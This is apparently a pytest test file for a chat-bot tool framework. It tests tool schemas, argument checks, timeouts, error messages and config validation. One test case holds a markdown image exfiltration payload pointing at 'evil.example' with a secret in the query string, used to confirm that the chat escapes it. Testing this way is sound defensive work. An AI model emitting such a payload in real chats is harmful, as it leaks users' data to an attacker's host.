"""Tools in core: a function described by pydantic, its calls checked and bounded, the registry, bots.yaml.

Calls run the real functions on the test's event loop (and sync ones in their own threads);
time limits are met by tools that wait for an event nobody sets, never by sleeping.
"""

from __future__ import annotations

import asyncio
import enum
import logging
import threading
from typing import Annotated, Any, Literal

import pydantic
import pytest

from slashbots import CommandRequest, ToolError, ToolUse, hookimpl
from slashbots.config import ConfigError, load_config
from slashbots.plugin_manager import PluginError, plugin_manager
from slashbots.testing import bots_yaml
from slashbots.tool import MAX_OUTPUT, Tool, ToolDefinitionError, call_tool
from slashbots.tool_lines import tool_line, without_tool_lines
from slashbots.tools import bot_tools, tools
from tests.chatgpt.helpers import command


class Colour(enum.Enum):
    RED = "red"
    BLUE = "blue"


class Point(pydantic.BaseModel):
    x: int
    title: str = ""


async def everything(
    text: str,
    count: int,
    ratio: float,
    flag: bool,
    mode: Literal["fast", "slow"],
    colour: Colour,
    names: list[str],
    points: list[Point],
    limit: Annotated[int, pydantic.Field(ge=1, le=10, description="at most ten")] = 3,
    title: str | None = None,
    model_name: str = "m",  # pydantic keeps model_* for itself; a tool parameter may still be called so
) -> str:
    """Every kind of parameter a tool may take."""
    return "ok"


# -- from a function to a tool ----------------------------------------------------------------


def test_the_schema_comes_from_the_signature_and_the_docstring() -> None:
    tool = Tool.from_function(everything, plugin="tests")
    assert (tool.name, tool.description, tool.plugin) == ("everything", "Every kind of parameter a tool may take.", "tests")
    schema = tool.parameters
    assert schema["type"] == "object" and schema["additionalProperties"] is False
    assert schema["required"] == ["text", "count", "ratio", "flag", "mode", "colour", "names", "points"]
    properties = schema["properties"]
    assert properties["text"] == {"type": "string"}
    assert properties["count"] == {"type": "integer"}
    assert properties["ratio"] == {"type": "number"}
    assert properties["flag"] == {"type": "boolean"}
    assert properties["mode"] == {"enum": ["fast", "slow"], "type": "string"}
    assert properties["names"] == {"items": {"type": "string"}, "type": "array"}
    assert properties["limit"] == {"default": 3, "description": "at most ten", "maximum": 10, "minimum": 1,
                                   "type": "integer"}
    assert properties["title"] == {"anyOf": [{"type": "string"}, {"type": "null"}], "default": None}
    assert "model_name" in properties
    assert schema["$defs"]["Colour"] == {"enum": ["red", "blue"], "type": "string"}
    assert schema["$defs"]["Point"]["properties"] == {"x": {"type": "integer"}, "title": {"default": "", "type": "string"}}
    assert "title" not in schema and "title" not in properties["count"]  # pydantic's generated titles are gone


def test_a_command_request_parameter_is_hidden_from_the_model() -> None:
    async def where_am_i(request: CommandRequest, detail: bool = False) -> str:
        """Where the question was asked."""
        return request.cid

    tool = Tool.from_function(where_am_i)
    assert list(tool.parameters["properties"]) == ["detail"]


def test_a_name_can_be_given() -> None:
    def hello() -> str:
        """Say hello."""
        return "hello"

    assert Tool.from_function(hello, name="greet").name == "greet"


def no_hint(x) -> str:  # type: ignore[no-untyped-def]
    """Lacks a type hint."""
    return ""


def a_dict(x: dict[str, int]) -> str:
    """Takes a dict."""
    return ""


def a_tuple(x: tuple[int, int]) -> str:
    """Takes a tuple."""
    return ""


def a_union(x: int | str) -> str:
    """Takes one of two."""
    return ""


def a_bare_list(x: list) -> str:  # type: ignore[type-arg]
    """Takes a list of anything."""
    return ""


def star_args(*values: int) -> str:
    """Takes *args."""
    return ""


def no_docstring(x: int) -> str:
    return ""


def two_requests(a: CommandRequest, b: CommandRequest) -> str:
    """Wants the request twice."""
    return ""


async def a_generator(x: int):  # type: ignore[no-untyped-def]
    """Yields."""
    yield x


@pytest.mark.parametrize(
    ("function", "name", "message"),
    [
        (no_hint, None, "tool 'no_hint', parameter 'x' has no type hint"),
        (a_dict, None, "tool 'a_dict', parameter 'x' has type dict[str, int], which tools can't take; use str, int"),
        (a_tuple, None, "tool 'a_tuple', parameter 'x' has type tuple[int, int], which tools can't take"),
        (a_union, None, "tool 'a_union', parameter 'x' has type int | str, which tools can't take"),
        (a_bare_list, None, "tool 'a_bare_list', parameter 'x' has type list, which tools can't take"),
        (star_args, None, "tool 'star_args', parameter 'values': tools take named parameters only"),
        (no_docstring, None, "tool 'no_docstring' has no docstring"),
        (two_requests, None, "tool 'two_requests', parameter 'b': only one parameter may take the CommandRequest"),
        (a_generator, None, "tool 'a_generator': a generator can't be a tool"),
        (lambda: "", None, "tool name '<lambda>' is not allowed"),
        (everything, "has space", "tool name 'has space' is not allowed"),
        (everything, "x" * 65, "is not allowed: use 1 to 64 letters"),
        ("not callable", "x", "a tool must be a function"),
    ],
)
def test_what_cannot_be_a_tool_is_refused_naming_the_tool(function: Any, name: str | None, message: str) -> None:
    with pytest.raises(ToolDefinitionError) as refused:
        Tool.from_function(function, name=name)
    assert message in str(refused.value)


# -- calls --------------------------------------------------------------------------------------


async def roll(sides: int, times: int = 1) -> str:
    """Roll a die."""
    return f"{sides}x{times}"


@pytest.mark.parametrize(
    ("arguments", "output"),
    [
        ('{"sides": 6}', "6x1"),
        ({"sides": 6, "times": 2}, "6x2"),
        ('{"sides": "6"}', "6x1"),  # pydantic's lax mode: a number in a string is a number
        ('  {"sides": 20}  ', "20x1"),
    ],
)
async def test_arguments_are_checked_then_passed(arguments: Any, output: str) -> None:
    result = await Tool.from_function(roll).call(arguments, command("x"))
    assert result.ok and result.output == output


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        ('{"sides": "many"}', "the arguments do not match the parameters of roll: sides: Input should be a valid integer"),
        ("{}", "sides: Field required"),
        ("", "sides: Field required"),  # no arguments at all is {}
        (None, "sides: Field required"),
        ('{"sides": 6, "colour": "red"}', "colour: Extra inputs are not permitted"),
        ('{"sides": 6', "the arguments are not valid JSON"),
        ("[6]", "the arguments must be a JSON object, not list"),
    ],
)
async def test_bad_arguments_go_back_to_the_model(arguments: Any, words: str) -> None:
    result = await Tool.from_function(roll).call(arguments, command("x"))
    assert not result.ok
    assert result.output.startswith("Error: ") and words in result.output
    assert result.output.endswith("Call roll again with arguments that match its parameters.")


async def test_the_request_reaches_a_tool_that_asks_for_it() -> None:
    async def whoami(request: CommandRequest) -> str:
        """Who asks."""
        return f"{request.user_id} in {request.cid}"

    result = await Tool.from_function(whoami).call("{}", command("x"))
    assert result.output == "alice in messaging:general"


async def test_a_sync_tool_runs_in_a_thread_of_its_own() -> None:
    def which_thread() -> str:
        """The thread it runs in."""
        return threading.current_thread().name

    result = await Tool.from_function(which_thread).call("{}", command("x"))
    assert result.output == "slashbots tool which_thread"


@pytest.mark.parametrize(
    ("value", "output"),
    [
        ({"a": [1, 2]}, '{"a":[1,2]}'),
        (Point(x=1), '{"x":1,"title":""}'),
        (None, "Done (the tool returned nothing)."),
        (42, "42"),
    ],
)
async def test_results_that_are_not_text_become_json(value: Any, output: str) -> None:
    async def give() -> Any:
        """Gives a value."""
        return value

    assert (await Tool.from_function(give).call("", command("x"))).output == output


async def test_a_long_result_is_cut() -> None:
    async def flood() -> str:
        """Too much."""
        return "x" * (MAX_OUTPUT + 10)

    output = (await Tool.from_function(flood).call("", command("x"))).output
    assert output.startswith("x" * MAX_OUTPUT) and output.endswith(f"[cut: the output was {MAX_OUTPUT + 10:,} characters]")


async def test_a_tool_error_is_told_to_the_model_in_its_own_words() -> None:
    async def picky(zone: str) -> str:
        """Knows one zone."""
        raise ToolError(f"{zone!r} is not a zone I know")

    result = await Tool.from_function(picky).call('{"zone": "Mars"}', command("x"))
    assert (result.ok, result.output) == (False, "Error: 'Mars' is not a zone I know")


@pytest.mark.parametrize("is_async", [True, False])
async def test_any_other_exception_is_logged_and_the_model_told_only_that_it_failed(
        is_async: bool, caplog: pytest.LogCaptureFixture) -> None:
    def broken() -> str:
        """Always fails."""
        raise RuntimeError("token=sk-secret-123 leaked")

    async def broken_async() -> str:
        """Always fails."""
        return broken()

    tool = Tool.from_function(broken_async if is_async else broken, name="broken")
    with caplog.at_level(logging.INFO, logger="slashbots.tools"):
        result = await tool.call("{}", command("x"))
    assert not result.ok
    assert result.output.startswith("Error: broken failed with an internal error.")
    assert "sk-secret" not in result.output
    assert "sk-secret-123" in caplog.text  # the details are for whoever runs the bot
    assert "tool broken for /gpt in messaging:general for alice: error" in caplog.text


async def test_an_async_tool_that_overruns_is_cancelled() -> None:
    cancelled = asyncio.Event()

    async def hang() -> str:
        """Never finishes."""
        try:
            await asyncio.Event().wait()
        finally:
            cancelled.set()
        return ""

    result = await Tool.from_function(hang).call("{}", command("x"), timeout=0.05)
    assert not result.ok
    assert result.output.startswith("Error: hang did not finish within 0.05 seconds and was stopped.")
    assert cancelled.is_set()


async def test_a_sync_tool_that_overruns_is_abandoned_and_the_reply_goes_on() -> None:
    release, finished = threading.Event(), threading.Event()

    def stuck() -> str:
        """Blocks until released."""
        release.wait(30)
        finished.set()
        return "late"

    result = await Tool.from_function(stuck).call("{}", command("x"), timeout=0.05)
    assert result.output.startswith("Error: stuck did not finish within 0.05 seconds")
    assert not finished.is_set()  # Python can't stop a thread: it is left to finish on its own
    release.set()
    assert await asyncio.to_thread(finished.wait, 10)


async def test_a_tools_own_timeout_error_is_a_failure_not_our_time_limit() -> None:
    async def gives_up() -> str:
        """Times out on its own."""
        raise TimeoutError("upstream")

    result = await Tool.from_function(gives_up).call("{}", command("x"), timeout=30)
    assert result.output.startswith("Error: gives_up failed with an internal error.")


async def test_cancelling_the_reply_cancels_the_running_tool() -> None:
    started, cancelled = asyncio.Event(), asyncio.Event()

    async def slow() -> str:
        """Runs until stopped."""
        started.set()
        try:
            await asyncio.Event().wait()
        except asyncio.CancelledError:
            cancelled.set()
            raise
        return ""

    task = asyncio.ensure_future(Tool.from_function(slow).call("{}", command("x")))
    await started.wait()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert cancelled.is_set()


async def test_call_tool_finds_the_tool_by_name_among_those_offered() -> None:
    offered = [Tool.from_function(roll)]
    assert (await call_tool(offered, "roll", '{"sides": 2}', command("x"))).output == "2x1"
    result = await call_tool(offered, "delete_everything", "{}", command("x"))
    assert (result.ok, result.output) == (False, "Error: there is no tool named 'delete_everything'. "
                                                 "The tools you can call are: roll.")


# -- the lines the chat shows -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("use", "line"),
    [
        (ToolUse("roll_dice", {"sides": 6}), "🔧 roll_dice(sides=6)"),
        (ToolUse("roll_dice", '{"sides": 6, "count": 2}'), "🔧 roll_dice(sides=6, count=2)"),
        (ToolUse("current_time", ""), "🔧 current_time()"),
        (ToolUse("current_time", '{"zone": "America/New_York"}'), '🔧 current_time(zone="America/New_York")'),
        (ToolUse("t", '{"q": "![x](https://evil.example/?d=secret) *b* _i_ <b>"}'),
         '🔧 t(q="!\\[x\\](https://evil.example/?d=secret) \\*b\\* \\_i\\_ \\<b\\>")'),
        # JSON keeps it on one line; the backslash is escaped, so the chat shows \n
        (ToolUse("t", '{"q": "line one\\nline two"}'), '🔧 t(q="line one\\\\nline two")'),
        (ToolUse("t", "not json {"), "🔧 t(not json {)"),
        (ToolUse("t", {"q": "y" * 100}), "🔧 t(q=\"" + "y" * 76 + "…)"),
        (ToolUse("no such*tool", "{}"), "🔧 nosuch\\*tool()"),
    ],
)
def test_a_tool_line_shows_the_call_cut_and_escaped(use: ToolUse, line: str) -> None:
    assert tool_line(use) == line


def test_tool_lines_come_out_again() -> None:
    lines = "\n".join([tool_line(ToolUse("a", {"x": 1})), tool_line(ToolUse("b"))])
    assert without_tool_lines(f"{lines}\n\nThe answer.") == "The answer."
    assert without_tool_lines(f"Let me look.\n\n{lines}\n\nFound it.") == "Let me look.\n\nFound it."
    assert without_tool_lines("No tools 🔧 here.") == "No tools 🔧 here."


# -- the registry and bots.yaml -----------------------------------------------------------------


async def hello() -> str:
    """Say hello."""
    return "hello"


class Greetings:
    @hookimpl
    def register_tools(self, register):
        register(hello)
        register(hello, name="hi")


class MoreGreetings:
    @hookimpl
    def register_tools(self, register):
        register(hello, name="hi")


class BrokenTool:
    @hookimpl
    def register_tools(self, register):
        register(a_dict)


def manager(*plugins: object):
    pm = plugin_manager(entry_points=False)
    for plugin in plugins:
        pm.register(plugin, type(plugin).__name__)
    return pm


def test_hook_register_tools() -> None:
    found = tools(manager(Greetings()))
    assert {"hello", "hi", "current_time", "channel_history"} <= set(found)
    assert found["hi"].function is hello and found["hi"].plugin == "Greetings"
    assert found["current_time"].plugin == "slashbots.plugins.tools"  # the built-ins register like anyone


def test_two_plugins_registering_one_name_stop_start_up_naming_both() -> None:
    with pytest.raises(PluginError, match=r"tool 'hi' is registered by both 'Greetings' and 'MoreGreetings'"):
        tools(manager(Greetings(), MoreGreetings()))


def test_a_tool_that_cannot_be_described_stops_start_up_naming_plugin_and_tool() -> None:
    with pytest.raises(PluginError, match=r"plugin 'BrokenTool': tool 'a_dict', parameter 'x' has type dict"):
        tools(manager(BrokenTool()))


def config_with(tmp_path, bots: list[dict[str, Any]]):
    path = tmp_path / "bots.yaml"
    path.write_text(bots_yaml(bots), encoding="utf-8")
    return load_config(path)


def line_of(config, text: str) -> int:
    """The line of bots.yaml holding ``text``, as errors should point at it."""
    lines = open(config.source, encoding="utf-8").read().splitlines()
    return next(number for number, line in enumerate(lines, 1) if text in line)


def test_each_bot_gets_the_tools_it_lists(tmp_path) -> None:
    config = config_with(tmp_path, [
        {"command": "gpt", "provider": "chatgpt", "tools": ["hi", "current_time"]},
        {"command": "plain", "provider": "chatgpt"},
    ])
    chosen = bot_tools(config, manager(Greetings()))
    assert [tool.name for tool in chosen["gpt"]] == ["hi", "current_time"]
    assert "plain" not in chosen


def test_an_unknown_tool_is_a_config_error_listing_the_installed_ones(tmp_path) -> None:
    config = config_with(tmp_path, [{"command": "gpt", "provider": "chatgpt", "tools": ["current_time", "weather"]}])
    with pytest.raises(ConfigError) as refused:
        bot_tools(config, manager(Greetings()))
    assert str(refused.value) == (
        f"{config.source}:{line_of(config, '- weather')}: bots[0].tools[1]: unknown tool 'weather'; "
        "installed tools: channel_history, current_time, hello, hi"
    )


def test_tools_on_a_provider_that_cannot_call_them_is_a_config_error(tmp_path) -> None:
    config = config_with(tmp_path, [{"command": "echo", "provider": "echo", "tools": ["current_time"]}])
    with pytest.raises(ConfigError) as refused:
        bot_tools(config, manager())
    assert str(refused.value) == (
        f"{config.source}:{line_of(config, '- current_time')}: bots[0].tools: provider 'echo' does not call tools; "
        "providers that do: chatgpt"
    )


def test_start_up_checks_the_tools(slashbots) -> None:
    with pytest.raises(ConfigError, match=r"bots\[0\]\.tools\[0\]: unknown tool 'weather'"):
        slashbots.start([{"command": "gpt", "provider": "chatgpt", "tools": ["weather"]}])
